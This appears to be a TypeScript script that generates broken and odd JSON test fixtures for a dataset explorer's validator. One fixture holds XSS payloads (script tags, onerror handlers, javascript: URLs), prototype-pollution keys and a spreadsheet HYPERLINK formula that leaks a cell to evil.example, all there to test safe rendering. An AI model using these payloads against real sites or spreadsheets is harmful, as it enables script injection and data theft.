/**
 * The broken-dataset corpus: `tsx scripts/make-broken-fixtures.ts` rewrites
 * `tests/fixtures/broken/` (small files, committed, plus `manifest.json`, which
 * says for each file what the explorer must report, path and words).
 *
 * The expected messages are written here by hand, not produced by the validator,
 * so the corpus checks the validator instead of copying it.
 *
 * Big files are never committed: `writeHugeDataset` writes a ~100 MB dataset
 * (valid-looking, one dangling reference near the end) into a temporary folder
 * at test time: `tsx scripts/make-broken-fixtures.ts --huge /tmp/dir` does it by hand.
 */
import { createWriteStream, mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';

/** What one error line in the UI must say: the JSON path exactly, and some words of the message. */
export interface Expected {
  path: string;
  message: string;
}

export interface CorpusEntry {
  file: string;
  /** What is wrong with it, in a sentence. */
  what: string;
  /** The problems that must be reported (others may be reported too). */
  expect: Expected[];
  /**
   * What opening it as a file or from an address must report, where that differs:
   * those entry points recognise the format by content (GEXF, GraphML, CSV...)
   * before validating, while the bundled path reads the project format only.
   */
  imported?: Expected[];
}

type Json = null | boolean | number | string | Json[] | { [k: string]: Json };
type Obj = { [k: string]: Json };

const cite = (paragraph = 1, source = 's-report'): Json => [{ source, paragraph }];

/** A small valid dataset every broken file starts from. */
export function baseDataset(): Obj {
  return {
    format: 'ct-explorer-dataset',
    version: 1,
    title: 'Fixture: regional summit',
    description: 'A small valid dataset; the broken corpus breaks it in one way per file.',
    language: 'en',
    sources: [
      { id: 's-report', title: 'Summit report', publisher: 'Example network', date: '2016-10', url: 'https://example.org/report', paragraphs: 10 },
      { id: 's-blog', title: 'Blog post', publisher: 'Example blog', date: '2016-10-27', paragraphs: 5 },
    ],
    relationTypes: [
      { id: 'part-of', label: 'part of', inverseLabel: 'has part', collaborative: false, acyclic: true },
      { id: 'co-chaired', label: 'co-chaired', inverseLabel: 'co-chaired by', collaborative: true },
      { id: 'participated-in', label: 'took part in', inverseLabel: 'had participant', collaborative: true },
      { id: 'focuses-on', label: 'focuses on', inverseLabel: 'focus of', collaborative: false },
    ],
    entities: [
      { id: 'org-alpha', type: 'organization', name: 'Alpha Network', kind: 'network', citations: cite(1) },
      { id: 'org-beta', type: 'organization', name: 'Beta Foundation', kind: 'ngo', citations: cite(2) },
      { id: 'country-th', type: 'country', name: 'Thailand', citations: cite(1) },
      {
        id: 'event-summit', type: 'event', name: 'Regional Summit', kind: 'meeting', start: '2016-10-25', end: '2016-10-26',
        location: { place: 'Bangkok', country: 'country-th' }, participants: { count: 40, approximate: true }, citations: cite(1),
      },
      { id: 'event-panel', type: 'event', name: 'Panel on referral', kind: 'panel', start: '2016-10-25', citations: cite(3) },
      { id: 'topic-referral', type: 'topic', name: 'Referral mechanisms', citations: cite(3) },
      { id: 'pub-guidelines', type: 'publication', name: 'Referral guidelines', kind: 'guidelines', period: { start: '2015', end: '2018' }, citations: cite(4) },
    ],
    relations: [
      { source: 'event-panel', type: 'part-of', target: 'event-summit', citations: cite(3) },
      { source: 'org-alpha', type: 'co-chaired', target: 'event-summit', citations: cite(2) },
      { source: 'org-beta', type: 'participated-in', target: 'event-panel', citations: cite(3, 's-blog') },
      { source: 'event-summit', type: 'focuses-on', target: 'topic-referral', citations: cite(3) },
    ],
  };
}

const pretty = (v: unknown) => `${JSON.stringify(v, null, 2)}\n`;
const ENTITY_TYPE_CYCLE = ['organization', 'event', 'publication', 'country', 'person', 'topic'] as const;

function edit(fn: (d: Obj & { entities: Obj[]; relations: Obj[]; sources: Obj[]; relationTypes: Obj[] }) => void): string {
  const d = baseDataset() as Obj & { entities: Obj[]; relations: Obj[]; sources: Obj[]; relationTypes: Obj[] };
  fn(d);
  return pretty(d);
}

/** Line and column (from 1) of an offset, computed here independently of the app. */
function at(text: string, offset: number): string {
  const before = text.slice(0, offset);
  const line = before.split('\n').length;
  const column = offset - before.lastIndexOf('\n');
  return `at line ${line}, column ${column}`;
}

const LONG = 10_000;
const longName = (seed: string) => (seed + ' ').repeat(Math.ceil(LONG / (seed.length + 1))).slice(0, LONG);

/** Every committed file of the corpus: name, content, what must be reported. */
export function corpus(): (CorpusEntry & { content: string })[] {
  const out: (CorpusEntry & { content: string })[] = [];
  const add = (file: string, what: string, content: string, expect: Expected[], imported?: Expected[]) => out.push({ file, what, content, expect, ...(imported ? { imported } : {}) });
  const base = pretty(baseDataset());

  add('empty.json', 'An empty file (zero bytes).', '', [{ path: '$', message: 'The file is empty' }]);
  add('whitespace-only.json', 'Only spaces, tabs and newlines.', ' \n\t\n  \n', [{ path: '$', message: 'The file is empty' }]);

  {
    const cut = base.indexOf('"event-summit",\n      "type"') + 5;
    const text = base.slice(0, cut);
    add('truncated.json', 'A download cut off in the middle of an entity.', text,
      [{ path: '$', message: 'The file is not valid JSON: at line' }, { path: '$', message: 'but the text ended' }]);
  }
  {
    const cut = base.indexOf('"Regional Summit"') + 8;
    add('truncated-in-text.json', 'Cut off inside a text value.', base.slice(0, cut),
      [{ path: '$', message: 'a closing double quote, but the text ended' }]);
  }
  {
    const text = base.replace(/\n {2}\]\n\}\n$/, ',\n  ]\n}\n');
    const offset = text.lastIndexOf(']');
    add('trailing-comma.json', 'A comma after the last relation (allowed in JavaScript, not in JSON).', text,
      [{ path: '$', message: `The file is not valid JSON: ${at(text, offset)}, expected a value` }]);
  }
  add('html-page.json', 'An HTML error page served instead of a dataset.',
    '<!doctype html>\n<html><head><title>404 Not Found</title></head><body><h1>Not Found</h1></body></html>\n',
    [{ path: '$', message: 'This is a web page (HTML), not a dataset' }],
    [{ path: 'html-page.json', message: 'This is a web page (HTML), not a dataset' }]);
  add('top-level-list.json', 'A list of datasets instead of one dataset.', pretty([baseDataset()]),
    [{ path: '$', message: 'A dataset must be a JSON object, but this file holds a list' }]);
  add('top-level-null.json', 'The JSON value null.', 'null\n', [{ path: '$', message: 'but this file holds null' }]);
  add('top-level-text.json', 'A JSON text value.', '"ct-explorer-dataset"\n', [{ path: '$', message: 'but this file holds a string' }]);
  add('top-level-number.json', 'A JSON number.', '42\n', [{ path: '$', message: 'but this file holds a number' }]);

  add('wrong-format.json', 'Another tool\'s file: wrong "format" and "version".', edit((d) => {
    d.format = 'gephi-lite';
    d.version = 2;
  }), [
    { path: '$.format', message: 'This is not a dataset of this explorer' },
    { path: '$.version', message: '"version" must be 1, but it is the number 2' },
  ]);
  add('missing-fields.json', 'Only "format" and "version".', pretty({ format: 'ct-explorer-dataset', version: 1 }), [
    { path: '$.title', message: 'Required field "title" is missing' },
    { path: '$.sources', message: 'Required field "sources" is missing' },
    { path: '$.relationTypes', message: 'Required field "relationTypes" is missing' },
    { path: '$.entities', message: 'Required field "entities" is missing' },
    { path: '$.relations', message: 'Required field "relations" is missing' },
  ]);
  add('wrong-types-top.json', 'Every top-level field of the wrong type.', edit((d) => {
    d.title = 42;
    (d as Obj).sources = {};
    (d as Obj).relationTypes = 'none';
    (d as Obj).entities = null;
    (d as Obj).relations = 7;
    d.language = ['en'];
  }), [
    { path: '$.title', message: '"title" should be a text, but it is the number 42' },
    { path: '$.sources', message: '"sources" should be a list, but it is an object' },
    { path: '$.relationTypes', message: '"relationTypes" should be a list, but it is the text "none"' },
    { path: '$.entities', message: '"entities" should be a list, but it is null' },
    { path: '$.relations', message: '"relations" should be a list, but it is the number 7' },
    { path: '$.language', message: '"language" should be a text, but it is a list (1 item)' },
  ]);
  add('wrong-types-entities.json', 'Entity fields of the wrong type.', edit((d) => {
    d.entities[0]!.name = 42;
    d.entities[1]!.aliases = 'Beta';
    d.entities[2]!.citations = {};
    d.entities[3]!.start = 20161025;
    d.entities[5]!.type = 7;
    d.entities[6] = 'pub-guidelines' as unknown as Obj;
  }), [
    { path: '$.entities[0].name', message: '"name" should be a text, but it is the number 42' },
    { path: '$.entities[1].aliases', message: '"aliases" should be a list, but it is the text "Beta"' },
    { path: '$.entities[2].citations', message: '"citations" should be a list, but it is an object' },
    { path: '$.entities[3].start', message: '"start" should be a text, but it is the number 20161025' },
    { path: '$.entities[5].type', message: '"type" should be one of "organization", "event", "publication", "country", "person", "topic", but it is the number 7' },
    { path: '$.entities[6]', message: 'Item 6 of "entities" should be an object, but it is the text "pub-guidelines"' },
  ]);
  add('wrong-types-nested.json', 'Wrong types deep inside entities, sources, relation types and relations.', edit((d) => {
    (d.entities[3]!.location as Obj).country = 5;
    (d.entities[3]!.participants as Obj).count = -1;
    ((d.entities[0]!.citations as Obj[])[0] as Obj).paragraph = '3';
    d.entities[1]!.attributes = { founded: { year: 2001 } };
    d.sources[0]!.paragraphs = 2.5;
    d.relationTypes[1]!.collaborative = 'yes';
    d.relations[2]!.citations = [];
  }), [
    { path: '$.entities[3].location.country', message: '"country" should be a text, but it is the number 5' },
    { path: '$.entities[3].participants.count', message: '"count" must be at least 0, but it is the number -1' },
    { path: '$.entities[0].citations[0].paragraph', message: '"paragraph" should be a number, but it is the text "3"' },
    { path: '$.entities[1].attributes.founded', message: '"founded" does not match any allowed shape' },
    { path: '$.sources[0].paragraphs', message: '"paragraphs" should be a whole number, but it is the number 2.5' },
    { path: '$.relationTypes[1].collaborative', message: '"collaborative" should be true or false, but it is the text "yes"' },
    { path: '$.relations[2].citations', message: '"citations" must list at least 1 item; it is empty' },
  ]);
  add('unknown-fields.json', 'Misspelt field names, at the top and in an entity.', edit((d) => {
    (d as Obj).entites = [];
    d.entities[3]!.partcipants = { count: 3 };
  }), [
    { path: '$', message: 'Unknown field "entites"' },
    { path: '$.entities[3]', message: 'Unknown field "partcipants"' },
  ]);
  add('duplicate-ids.json', 'The same id used twice for entities, sources, relation types and relations.', edit((d) => {
    d.entities.push({ id: 'org-alpha', type: 'organization', name: 'Alpha Network (again)', citations: cite(1) });
    d.sources.push({ id: 's-blog', title: 'Another post', publisher: 'Example blog', date: '2016-10' });
    d.relationTypes.push({ id: 'co-chaired', label: 'chaired', inverseLabel: 'chaired by', collaborative: true });
    d.relations[0]!.id = 'rel-1';
    d.relations[1]!.id = 'rel-1';
  }), [
    { path: '$.entities[7].id', message: 'Duplicate entity id "org-alpha"' },
    { path: '$.sources[2].id', message: 'Duplicate source id "s-blog"' },
    { path: '$.relationTypes[4].id', message: 'Duplicate relation type id "co-chaired"' },
    { path: '$.relations[1].id', message: 'Duplicate relation id "rel-1"' },
  ]);
  add('dangling-references.json', 'Relations, citations and a location that point to things that do not exist.', edit((d) => {
    d.relations[1]!.source = 'org-ghost';
    d.relations[2]!.target = 'event-nowhere';
    d.relations[3]!.type = 'funded';
    ((d.entities[0]!.citations as Obj[])[0] as Obj).source = 's-missing';
    ((d.entities[1]!.citations as Obj[])[0] as Obj).paragraph = 99;
    (d.entities[3]!.location as Obj).country = 'country-atlantis';
    (d.entities[4]! as Obj).location = { country: 'org-alpha' };
  }), [
    { path: '$.relations[1].source', message: 'Relation source "org-ghost" is not an entity in this dataset' },
    { path: '$.relations[2].target', message: 'Relation target "event-nowhere" is not an entity in this dataset' },
    { path: '$.relations[3].type', message: 'Unknown relation type "funded"' },
    { path: '$.entities[0].citations[0].source', message: 'Citation points to source "s-missing", which is not declared' },
    { path: '$.entities[1].citations[0].paragraph', message: 'Paragraph 99 does not exist: source "s-report" has 10 paragraphs' },
    { path: '$.entities[3].location.country', message: 'Location country "country-atlantis" is not an entity in this dataset' },
    { path: '$.entities[4].location.country', message: 'is a organization, not a country' },
  ]);
  add('cycles.json', '"part-of" (declared acyclic) in a loop of two and a loop of three, and an event part of itself.', edit((d) => {
    d.entities.push(
      { id: 'event-a', type: 'event', name: 'Session A', start: '2016-10-25', citations: cite(5) },
      { id: 'event-b', type: 'event', name: 'Session B', start: '2016-10-25', citations: cite(5) },
      { id: 'event-c', type: 'event', name: 'Session C', start: '2016-10-25', citations: cite(5) },
    );
    d.relations.push(
      { source: 'event-summit', type: 'part-of', target: 'event-panel', citations: cite(3) },
      { source: 'event-a', type: 'part-of', target: 'event-b', citations: cite(5) },
      { source: 'event-b', type: 'part-of', target: 'event-c', citations: cite(5) },
      { source: 'event-c', type: 'part-of', target: 'event-a', citations: cite(5) },
      { source: 'event-a', type: 'part-of', target: 'event-a', citations: cite(5) },
    );
  }), [
    { path: '$.relations[4]', message: 'Relations of type "part-of" must not form a cycle, but this one closes the cycle "event-panel" → "event-summit" → "event-panel"' },
    { path: '$.relations[7]', message: 'closes the cycle "event-a" → "event-b" → "event-c" → "event-a"' },
    { path: '$.relations[8].target', message: 'Relation points from "event-a" to itself' },
  ]);
  add('impossible-dates.json', 'Dates such as 2016-13-45, 30 February, prose dates, and ends before starts.', edit((d) => {
    d.entities[3]!.start = '2016-13-45';
    d.entities[4]!.start = '2016-02-30';
    d.entities[4]!.end = '2016-02-01';
    d.sources[1]!.date = '30 September 2016';
    d.entities[6]!.period = { start: '2018', end: '2015' };
    d.relations[0]!.date = '2016-00';
  }), [
    { path: '$.entities[3].start', message: '"2016-13-45" is not a real date: there is no month 13' },
    { path: '$.entities[4].start', message: '"2016-02-30" is not a real date: February 2016 has 29 days' },
    { path: '$.sources[1].date', message: '"30 September 2016" is not a date in the form YYYY, YYYY-MM or YYYY-MM-DD' },
    { path: '$.entities[6].period.end', message: 'The end date 2015 is before the start date 2018' },
    { path: '$.relations[0].date', message: 'there is no month 0' },
  ]);
  {
    // JSON.stringify would turn "__proto__" into a real prototype change; write the text by hand.
    const text = base
      .replace('{\n  "format"', '{\n  "__proto__": { "polluted": "top" },\n  "constructor": { "prototype": { "polluted": "ctor" } },\n  "format"')
      .replace('"id": "org-alpha",', '"id": "org-alpha",\n      "__proto__": { "isAdmin": true },\n      "prototype": { "polluted": "entity" },');
    add('prototype-keys.json', '"__proto__", "constructor" and "prototype" keys at the top and in an entity (must not pollute objects).', text, [
      { path: '$', message: 'Unknown fields "__proto__", "constructor"' },
      { path: '$.entities[0]', message: 'Unknown fields "__proto__", "prototype"' },
    ]);
  }
  {
    const text = base.replace('"Alpha Network"', '"Alpha\u0001Net\u0007work"');
    add('control-characters-raw.json', 'Raw control characters (U+0001, U+0007) inside a name, which JSON forbids.', text, [
      { path: '$', message: `The file is not valid JSON: ${at(text, text.indexOf('\u0001'))}, expected no control character inside text` },
    ]);
  }
  add('control-characters-escaped.json', 'Escaped control characters (NUL, BEL, ESC, bidi override) in names and ids, and a reference to one that does not exist.', edit((d) => {
    d.entities[0]!.name = 'Alpha\u0000Network\u0007\u001b[31m red \u202egnirts desrever';
    d.entities[1]!.id = 'org-\u0000beta';
    d.relations[2]!.source = 'org-\u0000beta';
    d.relations[1]!.source = 'org-\u0000ghost';
  }), [
    { path: '$.relations[1].source', message: 'Relation source "org-\\u0000ghost" is not an entity in this dataset' },
  ]);
  add('long-strings.json', '10,000-character names and descriptions (allowed) and a 10,000-character id (too long), also used in a reference.', edit((d) => {
    d.entities[0]!.name = longName('Alpha Network for the Protection of Migrant Workers');
    d.entities[0]!.description = longName('Lorem ipsum dolor sit amet');
    d.entities[2]!.aliases = [longName('ประเทศไทย')];
    d.entities[1]!.id = 'org-' + 'b'.repeat(LONG - 4);
    d.relations[2]!.source = 'org-' + 'b'.repeat(LONG - 4);
    d.relations[1]!.target = 'x'.repeat(LONG);
  }), [
    { path: '$.entities[1].id', message: '"id" must be at most 200 characters long' },
    { path: '$.relations[1].target', message: `Relation target "${'x'.repeat(60)}…" is not an entity in this dataset` },
  ]);
  add('rtl-and-mixed-scripts.json', 'Right-to-left and mixed scripts (Arabic, Hebrew, Thai, Khmer, Burmese, Chinese, Vietnamese) in names and ids, with a dangling Arabic id and a bad Thai-named date.', edit((d) => {
    d.entities[0]!.name = 'شبكة ألفا لمكافحة الاتجار بالبشر (Alpha)';
    d.entities[1]!.name = 'קרן בטא — Beta Foundation';
    d.entities[2]!.name = 'ประเทศไทย';
    d.entities[2]!.aliases = ['Thailand', 'ថៃ', 'ထိုင်း', '泰国'];
    d.entities[4]!.name = 'Hội thảo về cơ chế chuyển tuyến ‏(panel)';
    d.entities[5]!.name = '转介机制 / ယန္တရား';
    d.entities[3]!.name = 'การประชุมสุดยอดระดับภูมิภาค';
    d.entities[3]!.start = '2559-13-01';
    d.relations[1]!.source = 'منظمة-غير-موجودة';
  }), [
    { path: '$.relations[1].source', message: 'Relation source "منظمة-غير-موجودة" is not an entity in this dataset' },
    { path: '$.entities[3].start', message: '"2559-13-01" is not a real date: there is no month 13' },
  ]);
  add('emoji.json', 'Emoji (with skin tones, flags and joiners) in names and ids; one emoji id is used twice.', edit((d) => {
    d.entities[0]!.name = '🕊️ Alpha Network 🇹🇭';
    d.entities[1]!.name = '👩🏽‍⚕️ Beta Foundation';
    d.entities[0]!.id = 'org-👨‍👩‍👧‍👦';
    d.entities[1]!.id = 'org-👨‍👩‍👧‍👦';
    d.relations[1]!.source = 'org-👨‍👩‍👧‍👦';
  }), [
    { path: '$.entities[1].id', message: 'Duplicate entity id "org-👨‍👩‍👧‍👦"' },
  ]);
  add('many-errors.json', '1,200 entities each missing its name and citations: the report is capped.', edit((d) => {
    for (let i = 0; i < 1200; i++) d.entities.push({ id: `org-${i}`, type: 'organization' });
  }), [
    { path: '$.entities[7].name', message: 'Required field "name" is missing' },
    { path: '$', message: 'more problems not listed' },
  ]);
  {
    const depth = 100_000;
    const junk = '['.repeat(depth) + ']'.repeat(depth);
    const text = base.replace('{\n  "format"', `{\n  "junk": ${junk},\n  "format"`).replace('"relations": [', `"relations": [\n    ${'{"a":'.repeat(2000)}1${'}'.repeat(2000)},`);
    add('deep-nesting.json', 'Lists nested 100,000 deep and objects nested 2,000 deep, inside an otherwise valid dataset.', text, [
      { path: '$', message: 'Unknown field "junk"' },
      { path: '$.relations[0]', message: 'Unknown field "a"' },
    ]);
  }
  {
    const text = `{"format": "ct-explorer-dataset", "entities": ${'['.repeat(100_000)}`;
    add('deep-nesting-unclosed.json', 'A list opened 100,000 times and never closed.', text, [
      { path: '$', message: `The file is not valid JSON: ${at(text, text.length)}, expected a value, but the text ended` },
    ]);
  }
  return out;
}

/**
 * Valid but odd datasets the explorer must open and show as plain text:
 * hostile strings (HTML, script URLs), sensitive items, and odd characters.
 */
export function validCorpus(): { file: string; what: string; content: string }[] {
  const hostile = edit((d) => {
    d.title = 'Hostile <img src=x onerror=alert("title")> dataset';
    d.entities[0]!.name = '<img src=x onerror=alert(1)>';
    d.entities[0]!.aliases = ['<script>alert(2)</script>'];
    d.entities[0]!.description = '<b>bold?</b> <a href="javascript:alert(3)">click me</a> <iframe src="data:text/html,<script>alert(4)</script>"></iframe>';
    d.entities[0]!.attributes = { '<i>key</i>': '<svg onload=alert(5)>' };
    d.entities[1]!.name = '"><svg/onload=alert(6)>{@html x}';
    d.entities[3]!.name = 'Summit <style>body{display:none}</style>';
    // Spreadsheet formulas: a CSV export must not let a spreadsheet run them.
    d.entities[5]!.name = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
    d.entities[5]!.aliases = ['+1+1', '@SUM(1,2)', '-2+3'];
    (d.entities[3]!.location as Obj).place = '<marquee>Bangkok</marquee>';
    d.entities[6]!.url = 'javascript:alert(7)';
    d.relationTypes[1]!.label = '<u>co-chaired</u>';
    d.relations[1]!.attributes = { role: '<img src=x onerror=alert(8)>' };
    d.sources = [
      { id: 's-report', title: 'Report with a javascript: link', publisher: '<em>Publisher</em>', date: '2016-10', url: 'javascript:alert(9)', paragraphs: 10 },
      { id: 's-blog', title: 'Post with a data: link', publisher: 'Example blog', date: '2016-10-27', url: 'data:text/html,<script>alert(10)</script>', paragraphs: 5 },
      { id: 's-mixed', title: 'Post with a mixed-case JaVaScRiPt: link', publisher: 'X', date: '2016', url: ' JaVaScRiPt:alert(11)' },
      { id: 's-vb', title: 'Post with a vbscript: link', publisher: 'X', date: '2016', url: 'vbscript:msgbox(12)' },
      { id: 's-relative', title: 'Post with a protocol-relative link', publisher: 'X', date: '2016', url: '//evil.example/x' },
      { id: 's-https', title: 'Safe https source', publisher: 'X', date: '2016', url: 'https://example.org/report?a=1&b=<x>' },
      { id: 's-http', title: 'Safe http source', publisher: 'X', date: '2016', url: 'http://example.org/post' },
    ];
    d.entities[0]!.citations = [
      { source: 's-report', paragraph: 1 }, { source: 's-blog', paragraph: 1 }, { source: 's-mixed' }, { source: 's-vb' },
      { source: 's-relative' }, { source: 's-https', note: '<img src=x onerror=alert(13)>' }, { source: 's-http' },
    ];
  });
  const sensitive = edit((d) => {
    d.title = 'Fixture with sensitive items';
    d.entities.push(
      // A survivor: the whole entity is withheld, with the relations that touch it.
      { id: 'person-secret-survivor', type: 'person', name: 'SECRET-SURVIVOR-ALPHA', role: 'survivor', sensitive: true, description: 'SECRET-SURVIVOR-DESC', citations: cite(5) },
      // An outreach worker: shown, but the role, contact and description are withheld.
      {
        id: 'person-worker', type: 'person', name: 'Outreach Worker', role: 'SECRET-ROLE-BRAVO', description: 'SECRET-DESC-ECHO',
        aliases: ['SECRET-ALIAS-FOXTROT'], attributes: { phone: 'SECRET-PHONE-CHARLIE', team: 'outreach' },
        sensitiveFields: ['role', 'phone', 'description', 'aliases'], citations: cite(5),
      },
      // A withheld place an event refers to: its id must not leak through the event's location.
      { id: 'country-secretzulu', type: 'country', name: 'SECRET-PLACE-ZULU', sensitive: true, citations: cite(5) },
      { id: 'event-safehouse', type: 'event', name: 'Shelter visit', start: '2016-10-20', location: { country: 'country-secretzulu', place: 'undisclosed' }, citations: cite(5) },
    );
    d.relations.push(
      { source: 'person-secret-survivor', type: 'participated-in', target: 'event-summit', citations: cite(5) },
      { source: 'person-worker', type: 'participated-in', target: 'event-summit', citations: cite(5) },
      { id: 'rel-secret-meeting', source: 'org-alpha', type: 'participated-in', target: 'event-panel', sensitive: true, attributes: { note: 'SECRET-REL-DELTA' }, citations: cite(5) },
    );
  });
  const odd = edit((d) => {
    d.title = 'Fixture with odd but valid text';
    d.entities[0]!.name = longName('Alpha Network for the Protection of Migrant Workers in the Greater Mekong Sub-region');
    d.entities[1]!.name = 'شبكة ألفا (Beta) קרן';
    d.entities[2]!.name = 'ประเทศไทย 🇹🇭';
    d.entities[4]!.name = '👩🏽‍⚕️ Panel\u200b on\u00a0referral \u202etxet desrever\u202c';
    d.entities[5]!.name = 'Ｚａｌｇｏ t̸̢̛e̶x̷t̴ 转介机制';
    d.entities[6]!.name = 'Tab\tand\nnewline\u0000NUL';
  });
  // Ids, names, attribute keys and relation types that are also the names of Object.prototype's members.
  const KEYS = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'prototype'];
  const prototypeNames = pretty({
    format: 'ct-explorer-dataset', version: 1, title: 'Fixture with prototype names',
    sources: [{ id: 'constructor', title: 'toString', publisher: '__proto__', date: '2016' }],
    relationTypes: [
      { id: 'constructor', label: 'constructor', inverseLabel: 'prototype', collaborative: true },
      { id: '__proto__', label: 'hasOwnProperty', inverseLabel: 'valueOf', collaborative: false },
    ],
    entities: KEYS.map((k, i) => ({
      id: k, type: ENTITY_TYPE_CYCLE[i % ENTITY_TYPE_CYCLE.length], name: k, aliases: [`${k}()`],
      attributes: { constructor: k, toString: i, valueOf: true }, citations: [{ source: 'constructor' }],
      ...(i % ENTITY_TYPE_CYCLE.length === 1 ? { start: '2016-10' } : {}),
    })),
    relations: KEYS.slice(1).map((k, i) => ({ source: KEYS[i]!, type: i % 2 ? 'constructor' : '__proto__', target: k, citations: [{ source: 'constructor' }] })),
  });
  return [
    { file: 'valid/hostile-strings.json', what: 'HTML, script and unsafe links in every string field.', content: hostile },
    { file: 'valid/prototype-names.json', what: 'Ids, names, attribute keys and relation types such as "__proto__" and "constructor".', content: prototypeNames },
    { file: 'valid/sensitive.json', what: 'Entities, fields and relations marked sensitive.', content: sensitive },
    { file: 'valid/odd-strings.json', what: '10,000-character, right-to-left, emoji, zero-width and control characters in names.', content: odd },
  ];
}

/** The secrets `valid/sensitive.json` holds: none may ever appear in the app. */
export const SECRETS = [
  'SECRET-SURVIVOR-ALPHA', 'SECRET-SURVIVOR-DESC', 'person-secret-survivor', 'SECRET-ROLE-BRAVO', 'SECRET-DESC-ECHO',
  'SECRET-ALIAS-FOXTROT', 'SECRET-PHONE-CHARLIE', 'SECRET-PLACE-ZULU', 'secretzulu', 'SECRET-REL-DELTA', 'rel-secret-meeting',
];

/** What the huge file must be reported for, given `writeHugeDataset`'s answer. */
export function hugeExpected(badRelation: number): Expected {
  return { path: `$.relations[${badRelation}].target`, message: 'Relation target "org-missing" is not an entity in this dataset' };
}

/**
 * Writes a dataset of about `bytes` bytes (default 100 MB), streamed so that
 * generating it takes a second or two: many organizations with long
 * descriptions, relations between them, and one relation near the end whose
 * target does not exist. Resolves to the entity count.
 */
export async function writeHugeDataset(file: string, bytes = 100 * 1024 * 1024): Promise<{ entities: number; badRelation: number }> {
  const out = createWriteStream(file);
  const write = (s: string) => new Promise<void>((resolve) => {
    if (out.write(s)) resolve();
    else out.once('drain', () => resolve());
  });
  const head = baseDataset();
  await write(`{"format":"ct-explorer-dataset","version":1,"title":"Huge generated dataset","sources":${JSON.stringify(head.sources)},"relationTypes":${JSON.stringify(head.relationTypes)},"entities":[\n`);
  const filler = 'A long description of a stakeholder organization, repeated to make the file big. '.repeat(24);
  const perEntity = filler.length + 160;
  const count = Math.max(10, Math.floor((bytes * 0.9) / perEntity));
  let chunk = '';
  for (let i = 0; i < count; i++) {
    chunk += `${i ? ',' : ''}{"id":"org-${i}","type":"organization","name":"Organization ${i}","description":"${filler}","citations":[{"source":"s-report","paragraph":1}]}\n`;
    if (chunk.length > 1 << 20) {
      await write(chunk);
      chunk = '';
    }
  }
  await write(`${chunk}],"relations":[\n`);
  chunk = '';
  const relations = Math.floor((bytes * 0.1) / 110);
  const bad = relations - 3;
  for (let i = 0; i < relations; i++) {
    const from = i % count;
    const to = (i * 7919 + 1) % count;
    const target = i === bad ? 'org-missing' : `org-${to === from ? (to + 1) % count : to}`;
    chunk += `${i ? ',' : ''}{"source":"org-${from}","type":"participated-in","target":"${target}","citations":[{"source":"s-report","paragraph":2}]}\n`;
    if (chunk.length > 1 << 20) {
      await write(chunk);
      chunk = '';
    }
  }
  await write(`${chunk}]}\n`);
  await new Promise<void>((resolve, reject) => out.end((e?: Error | null) => (e ? reject(e) : resolve())));
  return { entities: count, badRelation: bad };
}

/** Rewrites the committed corpus in `dir`. */
export function writeCorpus(dir: string): void {
  mkdirSync(join(dir, 'valid'), { recursive: true });
  for (const f of readdirSync(dir)) if (f.endsWith('.json')) rmSync(join(dir, f));
  const entries = corpus();
  for (const e of entries) writeFileSync(join(dir, e.file), e.content);
  for (const v of validCorpus()) writeFileSync(join(dir, v.file), v.content);
  const manifest = {
    '//': 'Generated by scripts/make-broken-fixtures.ts. Each file must fail to load with at least these problems (path exact, message containing the words).',
    files: entries.map(({ file, what, expect, imported }) => ({ file, what, expect, ...(imported ? { imported } : {}) })),
    valid: validCorpus().map(({ file, what }) => ({ file, what })),
    secrets: SECRETS,
  };
  writeFileSync(join(dir, 'manifest.json'), pretty(manifest));
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const huge = process.argv.indexOf('--huge');
  if (huge >= 0) {
    const dir = process.argv[huge + 1] ?? '.';
    const file = join(dir, 'huge-100mb.json');
    void writeHugeDataset(file).then((r) => console.log(`wrote ${file} (${r.entities} entities)`));
  } else {
    const dir = fileURLToPath(new URL('../tests/fixtures/broken/', import.meta.url));
    writeCorpus(dir);
    console.log(`wrote ${corpus().length} broken and ${validCorpus().length} valid files to ${dir}`);
  }
}
